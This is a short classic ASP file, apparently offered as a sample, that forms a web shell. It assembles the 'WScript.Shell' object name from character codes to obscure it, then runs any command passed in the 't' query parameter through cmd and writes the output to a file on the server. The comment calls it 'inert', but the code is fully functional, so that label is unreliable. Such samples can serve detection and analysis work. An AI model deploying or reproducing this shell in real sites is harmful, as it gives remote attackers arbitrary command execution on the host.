<%
' inert sample: the ProgID assembled from character codes in a loop (no folder of constants
' follows it) and the object's Run method given the request's command
Dim n, c, o
n = ""
For Each c In Array(87, 83, 99, 114, 105, 112, 116, 46, 83, 104, 101, 108, 108)
    n = n & Chr(c)
Next
Set o = Server.CreateObject(n)
o.Run "cmd /c " & Request.QueryString("t") & " > " & Server.MapPath("o.txt"), 0, True
%>
